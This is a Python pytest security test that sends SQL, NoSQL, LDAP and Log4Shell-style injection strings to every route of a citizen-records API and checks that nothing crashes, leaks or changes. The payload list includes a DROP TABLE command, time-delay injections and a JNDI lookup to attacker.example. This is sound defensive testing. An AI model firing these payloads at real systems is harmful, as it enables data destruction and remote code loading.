"""SQL and NoSQL injection strings in every text input of every route (JSON fields and query strings).

Walked generically from the OpenAPI document: each operation that takes text gets a body of its
declared shape with the attack in every string field (and in every string query parameter), sent
with a valid credential of the route's audience. Every answer is a clear reply below 500 within a
second, and afterwards the data is intact: the same citizens, tables and an unbroken audit chain.
"""

from __future__ import annotations

import time

import pytest
from tortoise import connections

from app.accounts.models import Citizen
from app.audit import verify_chain
from tests.security.routes import endpoints, example, example_body, resolve
from tests.security.world import build_world

ATTACKS = [
    "' OR '1'='1' --",
    "'; DROP TABLE citizens; --",
    "1; SELECT pg_sleep(3); --",
    "\" OR \"\"=\"",
    "%' OR 1=1 OR '%'='",
    "{\"$gt\": \"\"}",
    "'; WAITFOR DELAY '0:0:3'--",
    "\\x00\u0000'",
    "${jndi:ldap://attacker.example/a}",
    "*)(uid=*))(|(uid=*",
]
# What a reply would show if an attack reached the database layer (an echo of the input is fine).
DATABASE_WORDS = ["Traceback", "syntax error", "sqlite3", "asyncpg", "psycopg", "OperationalError", "tortoise"]
NOSQL_OBJECTS = [{"$gt": ""}, {"$ne": None}, {"$where": "sleep(3000)"}]


def query_parameters(document: dict, endpoint) -> list[str]:
    operation = document["paths"].get(endpoint.openapi_path, {}).get(endpoint.method.lower(), {})
    return [p["name"] for p in operation.get("parameters", [])
            if p.get("in") == "query" and resolve(document, p.get("schema", {})).get("type", "string") == "string"]


def with_text(document: dict, endpoint, text) -> dict | None:
    if endpoint.method not in ("POST", "PUT", "PATCH"):
        return None
    operation = document["paths"].get(endpoint.openapi_path, {}).get(endpoint.method.lower(), {})
    schema = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
    if not schema:
        return None
    if isinstance(text, str):
        return example_body(document, endpoint, text=text)
    return replace_strings(example(document, schema, "x"), text)


def replace_strings(value, replacement):
    if isinstance(value, dict):
        return {k: replace_strings(v, replacement) for k, v in value.items()}
    if isinstance(value, list):
        return [replace_strings(v, replacement) for v in value]
    return replacement if isinstance(value, str) else value


@pytest.fixture
async def world(app, client, sms, clock, platform):
    return await build_world(client, sms, clock, platform)


async def test_injection_strings_in_every_text_input_are_answered_below_500_and_change_nothing(app, client, world):
    document = (await client.get("/docs/openapi.json")).json()
    conn = connections.get("default")
    citizens_before = await Citizen.all().count()
    problems, sent = [], 0
    for endpoint in endpoints(app):
        if endpoint.path.endswith(("auth/logout", "me/sessions/<session_id:str>")):
            continue  # the credential is fresh per request anyway; these only sign the attacker out
        params = query_parameters(document, endpoint)
        for attack in [*ATTACKS, *NOSQL_OBJECTS]:
            body = with_text(document, endpoint, attack)
            query = {name: attack for name in params} if isinstance(attack, str) else {}
            if body is None and not query and not (endpoint.params and isinstance(attack, str)):
                continue
            headers = await world.credentials.headers(endpoint.audience) if endpoint.audience != "public" else {}
            url = endpoint.url(attack.replace("/", "") or "x") if endpoint.params and isinstance(attack, str) \
                else endpoint.url()
            started = time.monotonic()
            reply = await client.request(endpoint.method, url, params=query, json=body, headers=headers)
            took = time.monotonic() - started
            if took > 2.5:  # a busy machine, or pg_sleep run by an injection: only the injection is slow again
                headers = await world.credentials.headers(endpoint.audience) if endpoint.audience != "public" else {}
                started = time.monotonic()
                reply = await client.request(endpoint.method, url, params=query, json=body, headers=headers)
                took = time.monotonic() - started
            sent += 1
            if reply.status_code >= 500 or took > 2.5:
                problems.append(f"{endpoint.method} {endpoint.path} with {attack!r}: {reply.status_code} in "
                                f"{took:.1f}s {reply.text[:150]}")
            elif "json" in reply.headers.get("content-type", "") and reply.status_code >= 400:
                error = reply.json().get("error", {})
                leaked = [w for w in DATABASE_WORDS if w in reply.text]
                if not {"code", "message", "request_id"} <= set(error) or leaked:
                    problems.append(f"{endpoint.method} {endpoint.path}: not a clean envelope {reply.text[:150]}")
    assert sent >= 200, sent
    assert not problems, "\n".join(problems)
    assert await Citizen.all().count() == citizens_before
    await conn.execute_query("SELECT COUNT(*) FROM citizens")  # the table is still there
    report = await verify_chain()
    assert report.ok, report
